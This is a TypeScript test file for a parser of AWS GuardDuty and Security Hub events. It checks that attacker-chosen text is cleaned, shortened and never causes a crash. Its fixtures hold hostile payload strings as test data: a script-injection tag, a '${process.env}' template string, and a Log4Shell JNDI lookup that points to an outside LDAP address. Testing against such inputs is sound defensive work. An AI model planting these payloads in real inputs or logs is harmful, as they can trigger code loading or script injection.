// Attackers choose bucket names, user agents and tags. Whatever they write arrives as data, or not at all.
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readEvent } from '../../functions/sources/read-event.ts';
import { clean } from '../../functions/sources/text.ts';
import { bent, fixture, only, refusal } from './fixture.ts';

test('control and formatting characters go, everything else stays as it is', () => {
  expect(only(fixture('guardduty-hostile-text')).title).toBe(
    'All is well APPROVED ${process.env} <script>alert(1)</script>  gnp.exe',
  );
  expect(only(fixture('guardduty-hostile-text')).activity?.domain).toBe('${jndi:ldap://198.51.100.9/a}');
});

test('a huge title is cut', () => {
  const event = bent('guardduty-instance-c2', { 'detail.title': 'é🔥'.repeat(50_000) });
  const { title } = only(event);
  expect(Array.from(title)).toHaveLength(512);
  expect(title.endsWith('…')).toBe(true);
});

test('names that are shown are made harmless, ids that are used are refused', () => {
  const key = 'detail.resource.accessKeyDetails';
  expect(
    only(bent('guardduty-user-key', { [`${key}.userName`]: 'build\n\u001b[31m' })).resources[0]?.detail.userName,
  ).toBe('build');
  expect(only(bent('guardduty-user-key', { [`${key}.accessKeyId`]: 'AKIA\n' })).resources).toEqual([]);
});

test('a refusal quotes little, and on one line', () => {
  const said = refusal(bent('guardduty-instance-c2', { 'detail.accountId': `\u001b[2J\n${'x'.repeat(100_000)}` }));
  expect(said.length).toBeLessThan(400);
  expect(said).not.toMatch(/\p{Cc}/u);
});

test('a name from the prototype is only a name', () => {
  const event = bent('guardduty-attack-sequence', {
    'detail.service.detection.sequence.resources.1.resourceType': 'constructor',
    'detail.service.action': { actionType: 'toString' },
  });
  expect(only(event).resources.map(({ id }) => id)).toEqual(['AKIAI44QH8DHBEXAMPLE', 'i-0c10c2c7863d1a356']);
  const copy = bent('securityhub-guardduty-c2', {
    'detail.findings.0.FindingProviderFields.Types': ['TTPs/constructor'],
  });
  expect(only(copy).type).toBe('Backdoor:EC2/C&CActivity.B');
});

test('clean text is one line, short, well formed, and clean already', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 2_000 }), fc.integer({ min: 1, max: 600 }), (text, limit) => {
      const once = clean(text, limit);
      expect(Array.from(once).length).toBeLessThanOrEqual(limit);
      expect(once).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      expect(once.isWellFormed()).toBe(true);
      expect(clean(once, limit)).toBe(once);
    }),
  );
});

test('whatever is sent, the answer is a reading or a sentence, never an exception', () => {
  const names = [
    'guardduty-attack-sequence',
    'guardduty-several-buckets',
    'securityhub-custom-action',
    'health-exposed',
    'config-first-evaluation',
    'manual-request',
  ];
  fc.assert(
    fc.property(fc.constantFrom(...names), fc.infiniteStream(fc.nat()), fc.jsonValue(), (name, choices, value) => {
      const event = fixture(name);
      replaceSomewhere(event, choices[Symbol.iterator](), value);
      const read = readEvent(event);
      if ('unreadable' in read) expect(read.unreadable).toMatch(/\.$/);
      else expect(read.findings.length).toBeGreaterThan(0);
    }),
    { numRuns: 2_000 },
  );
});

/** Walks down by chance, and puts the value where it stops. */
const replaceSomewhere = (node: object, choices: Iterator<number>, value: unknown): void => {
  const keys = Object.keys(node);
  const key = keys[choices.next().value % keys.length];
  if (key === undefined) return;
  const child: unknown = Reflect.get(node, key);
  const deeper = typeof child === 'object' && child !== null && Object.keys(child).length > 0;
  if (deeper && choices.next().value % 5 > 0) replaceSomewhere(child, choices, value);
  else Reflect.set(node, key, value);
};
